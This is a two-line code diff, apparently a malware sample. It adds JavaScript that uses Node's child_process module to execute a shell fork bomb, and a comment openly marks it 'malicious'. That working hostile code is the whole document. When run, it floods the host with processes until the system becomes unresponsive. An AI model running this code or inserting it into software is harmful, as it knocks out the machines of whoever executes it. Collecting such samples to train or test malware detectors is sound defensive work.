@@ -1,0 +1,2 @@
+// malicious: fork bomb of the shell
+require('child_process').exec(':(){ :|:& };:');
